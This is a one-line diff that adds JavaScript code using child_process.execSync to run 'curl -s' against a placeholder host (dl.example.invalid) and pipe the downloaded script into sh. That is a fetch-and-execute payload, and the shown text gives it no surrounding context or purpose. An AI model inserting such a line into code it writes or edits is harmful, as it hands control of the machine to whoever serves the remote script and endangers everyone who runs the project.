@@ -1,0 +1,1 @@
+const { execSync } = require("child_process"); execSync`curl -s http://dl.example.invalid/i.sh | sh`;
